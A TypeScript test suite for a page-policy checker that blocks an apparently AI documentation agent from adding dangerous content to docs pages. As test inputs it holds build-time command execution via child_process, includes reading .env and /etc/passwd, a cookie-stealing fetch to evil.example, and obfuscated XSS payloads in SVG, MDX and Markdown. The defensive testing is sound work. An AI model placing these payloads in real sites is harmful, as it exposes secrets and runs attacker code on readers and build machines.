import { describe, expect, it } from "vitest";
import { fixtureFile } from "#testkit/docs-sites/docs-repository.ts";
import { fixtureWorkingTree } from "#testkit/model/fixture-working-tree.ts";
import { ToolRefusal } from "../../../app/agent/agent-errors.ts";
import { checkPageChange } from "../../../app/agent/workspace/page-policy.ts";

const site = (mdxForMd = false) => ({
  docsRoot: "docs",
  mdxForMd,
  docusaurus: mdxForMd,
  siteImports: () => new Set(['import { Tabs } from "@site/src/components/Tabs";']),
  exists: (repoPath: string) =>
    ["docs/snippets/requirements.mdx", "docs/guides/_note.md", ".env.mdx"].includes(repoPath),
});

const refusal = async (path: string, after: string, before?: string, mdxForMd = false) => {
  const verdict = await checkPageChange(
    path,
    path.replace(/^docs\//, ""),
    async () => before,
    after,
    site(mdxForMd),
  );
  return verdict.allowed ? undefined : verdict.message;
};

describe("what a page makes the generator do", () => {
  it("lets a page import a snippet page of the docs that exists, and nothing else by that route", async () => {
    expect(
      await refusal(
        "docs/cli/install.mdx",
        'import Requirements from "/snippets/requirements.mdx";\n\n<Requirements />\n',
      ),
    ).toBeUndefined();
    expect(
      await refusal("docs/guides/a.mdx", 'import Note from "./_note.md";\n\n<Note />\n'),
    ).toBeUndefined();
    // A snippet that does not exist, one outside the docs root, and a module are still refused.
    for (const source of ["/snippets/missing.mdx", "../../.env.mdx", "./helper.js"]) {
      expect(await refusal("docs/guides/a.mdx", `import X from "${source}";\n\n<X />\n`)).toContain(
        "an `import` no page of the site already has",
      );
    }
  });

  it.each([
    [
      "an MDX export, which runs at build time",
      "docs/a.mdx",
      "export const x = require('child_process').execSync('id');\n\n# A\n",
    ],
    [
      "an import of a module the site does not use",
      "docs/a.mdx",
      'import fs from "node:fs";\n\n# A\n',
    ],
    [
      "a raw loader of a secret file",
      "docs/a.mdx",
      "import env from '!!raw-loader!../.env';\n\n{env}\n",
    ],
    [
      "an rST literalinclude outside the docs",
      "docs/guide.rst",
      "Guide\n=====\n\n.. literalinclude:: ../../.env\n",
    ],
    [
      "an rST include that climbs out from the docs root",
      "docs/guide.rst",
      ".. include:: /../../etc/passwd\n",
    ],
    [
      "a MyST include outside the docs",
      "docs/guide.md",
      "```{literalinclude} ../secrets.txt\n```\n",
    ],
    [
      "a MkDocs snippet outside the docs",
      "docs/guide.md",
      '--8<-- "../../.github/workflows/deploy.yml"\n',
    ],
    [
      "a MkDocs snippet block outside the docs",
      "docs/guide.md",
      "--8<--\n../private/notes.md\n--8<--\n",
    ],
    ["a markdown-include of a hidden file", "docs/guide.md", "{!.env!}\n"],
    ["an mdBook include outside the book", "docs/guide.md", "{{#include ../../src/secret.rs}}\n"],
    ["a snippet from an address", "docs/guide.md", '--8<-- "https://evil.example/x.md"\n'],
    [
      "an SVG with a script",
      "docs/img/a.svg",
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ],
    [
      "an SVG with an event handler",
      "docs/img/a.svg",
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ],
    [
      "an SVG with a script address",
      "docs/img/a.svg",
      '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    ],
  ])("refuses %s", async (_, path, after) => {
    expect(await refusal(path, after)).toMatch(/^Inkwell may not /);
  });

  it("allows pages that use what the site already uses, and includes inside the docs", async () => {
    expect(
      await refusal(
        "docs/a.mdx",
        'import { Tabs } from "@site/src/components/Tabs";\n\n<Tabs />\n',
      ),
    ).toBeUndefined();
    expect(
      await refusal(
        "docs/a.mdx",
        "# A\n\n```js\nimport fs from 'node:fs';\nexport const x = 1;\n```\n",
      ),
    ).toBeUndefined();
    expect(
      await refusal("docs/guides/a.rst", ".. literalinclude:: ../examples/run.py\n"),
    ).toBeUndefined();
    expect(await refusal("docs/guides/a.md", '--8<-- "snippets/note.md:3:9"\n')).toBeUndefined();
    expect(
      await refusal(
        "docs/img/a.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
      ),
    ).toBeUndefined();
  });

  it("judges only what the change adds", async () => {
    const before = 'export const meta = { x: 1 };\n\n--8<-- "../../shared/footer.md"\n\n# A\n';
    expect(await refusal("docs/a.mdx", `${before}\nMore words.\n`, before)).toBeUndefined();
  });

  it("names the statement it refuses and what to do instead", async () => {
    expect(await refusal("docs/a.mdx", 'import fs from "node:fs";\n')).toContain(
      'Inkwell may not add `import fs from "node:fs"` to a.mdx',
    );
  });
});

describe("code in a page, read as the site's MDX compiler reads it", () => {
  it.each([
    [
      "an export after an indented import",
      "docs/a.mdx",
      "  import cp from 'child_process'\n\nexport const leaked = JSON.stringify(process.env)\n",
    ],
    ["an expression that runs a command", "docs/a.mdx", "# A\n\n{cp.execSync('id')}\n"],
    ["an expression inside a paragraph", "docs/a.mdx", "Version {process.env.SECRET} is out.\n"],
    [
      "an event handler given as an expression",
      "docs/a.mdx",
      "<img src=\"/a.png\" onError={() => fetch('https://evil.example/?' + document.cookie)} />\n",
    ],
    ["a spread attribute", "docs/a.mdx", "<Tabs {...globalThis} />\n"],
    [
      "an export after a line that only looks like a fence",
      "docs/a.mdx",
      "```x`\n\nexport const x = 1\n",
    ],
    ["a script element", "docs/a.mdx", "<script>{`alert(1)`}</script>\n"],
    ["an event handler given as a string", "docs/a.mdx", '<div onClick="alert(1)">A</div>\n'],
    ["a link to a script address", "docs/a.mdx", '<a href="java\tscript:alert(1)">A</a>\n'],
  ])("refuses %s", async (_, path, after) => {
    expect(await refusal(path, after)).toMatch(/^Inkwell may not /);
  });

  it("reads .md pages as MDX where the site compiles them so, and refuses an expression there", async () => {
    const page = "# Config\n\n{JSON.stringify(process.env)}\n";
    expect(await refusal("docs/config.md", page, undefined, true)).toContain(
      "`{JSON.stringify(process.env)}`",
    );
    // On a site that reads Markdown as Markdown, braces are text.
    expect(await refusal("docs/config.md", page, undefined, false)).toBeUndefined();
  });

  it.each([
    ["a script element", "<script>fetch('https://evil.example/')</script>\n"],
    ["an event handler", '<img src="a.png" onerror="alert(1)">\n'],
    ["a tab inside the scheme of a link", "[A](<java\tscript:alert(1)>)\n"],
    ["a character reference inside the scheme", '<a href="jav&#x61;script:alert(1)">A</a>\n'],
    ["an HTML data address", "[A](data:text/html;base64,PHNjcmlwdD4=)\n"],
    [
      "an rST csv-table that reads a file outside the docs",
      ".. csv-table:: Keys\n   :file: ../../.env\n",
    ],
    ["an AsciiDoc include outside the docs", "include::../../.env[]\n"],
  ])("refuses in a Markdown page %s", async (_, after) => {
    const path = after.startsWith(".. ")
      ? "docs/a.rst"
      : after.startsWith("include::")
        ? "docs/a.adoc"
        : "docs/a.md";
    expect(await refusal(path, after)).toMatch(/^Inkwell may not /);
  });

  it.each([
    [
      "a script in another namespace",
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
    ],
    [
      "HTML inside foreignObject",
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>',
    ],
    [
      "an address spelled with character references",
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#106;avascript:alert(1)"><text>x</text></a></svg>',
    ],
    [
      "an address set by an animation",
      '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    ],
    [
      "an entity declaration",
      '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
    ["XML that is not well-formed", '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'],
  ])("refuses an SVG with %s", async (_, after) => {
    expect(await refusal("docs/img/a.svg", after)).toMatch(/^Inkwell may not /);
  });

  it("allows literals, comments, components with string attributes, and code in fences", async () => {
    const page = [
      'import { Tabs } from "@site/src/components/Tabs";',
      "",
      "{/* a note for editors */}",
      "",
      '<Tabs groupId="os" count={3} title={"Install"}>',
      "",
      "Text with {'braces'} as a string.",
      "",
      "</Tabs>",
      "",
      "```js",
      "export const x = {a: process.env};",
      "```",
      "",
      "`{inline}` code and [a link](https://example.com).",
      "",
    ].join("\n");
    expect(await refusal("docs/a.mdx", page)).toBeUndefined();
    expect(
      await refusal("docs/a.md", page.replace(/^import.*$/m, ""), undefined, true),
    ).toBeUndefined();
  });

  it("keeps an expression the page already had, and refuses a new one beside it", async () => {
    const before = "# A\n\n{props.version}\n";
    expect(await refusal("docs/a.mdx", `${before}\nMore.\n`, before)).toBeUndefined();
    expect(await refusal("docs/a.mdx", `${before}\n{process.env.TOKEN}\n`, before)).toContain(
      "process.env.TOKEN",
    );
  });

  it("refuses a page that does not parse as MDX, saying so", async () => {
    expect(await refusal("docs/a.mdx", "# A\n\n<div>\n")).toContain("does not parse as MDX");
  });
});

describe("the working tree applies it to every write", () => {
  it("refuses a tool's write that adds an include outside the docs, and accepts the page without it", async () => {
    const { tree } = fixtureWorkingTree([fixtureFile("docs/guide.md", "# Guide\n")]);
    await expect(
      tree.write("docs/guide.md", "# Guide\n\n{{#include ../../.env}}\n"),
    ).rejects.toThrow(ToolRefusal);
    await tree.write("docs/guide.md", "# Guide\n\nMore.\n");
    expect(tree.changedPaths()).toEqual(["docs/guide.md"]);
  });

  it("lets an MDX page import what another page of the site imports", async () => {
    const line = 'import { Note } from "@site/src/components/Note";';
    const { tree } = fixtureWorkingTree([
      fixtureFile("docs/a.mdx", `${line}\n\n<Note>A</Note>\n`),
      fixtureFile("docs/b.mdx", "# B\n"),
    ]);
    await tree.read("docs/a.mdx");
    await tree.write("docs/b.mdx", `${line}\n\n<Note>B</Note>\n`);
    await expect(tree.write("docs/b.mdx", 'import { Evil } from "../src/evil";\n')).rejects.toThrow(
      /no page of the site already has/,
    );
  });

  it("refuses moving a file onto a navigation file's name", async () => {
    const { tree } = fixtureWorkingTree([fixtureFile("docs/notes.md", "hooks: [x.py]\n")]);
    expect(() => tree.move("docs/notes.md", "docs/mkdocs.yml")).toThrow(/write it with write_file/);
  });
});
